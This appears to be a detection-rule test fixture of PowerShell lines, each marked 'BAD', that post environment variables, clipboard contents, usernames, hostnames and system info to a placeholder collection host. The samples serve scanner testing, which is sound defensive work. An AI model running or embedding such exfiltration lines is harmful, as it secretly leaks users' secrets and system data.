$u = 'https://collect.acme.dev/f'
Invoke-RestMethod -Uri $u -Method Post -Body (Get-ChildItem env: | ConvertTo-Json)  # BAD no-undisclosed-data/sent
Invoke-RestMethod -Uri $u -Method Post -Body (Get-Clipboard)  # BAD no-undisclosed-data/sent
Invoke-RestMethod -Uri "$u`?h=$env:COMPUTERNAME"  # BAD no-undisclosed-data/sent
Invoke-RestMethod -Uri $u -Method Post -Body $env:USERNAME  # BAD no-undisclosed-data/sent
iwr "$u`?m=$(hostname)"  # BAD no-undisclosed-data/sent
Invoke-WebRequest -Uri $u -Method Post -Body (Get-ComputerInfo | Out-String)  # BAD no-undisclosed-data/sent
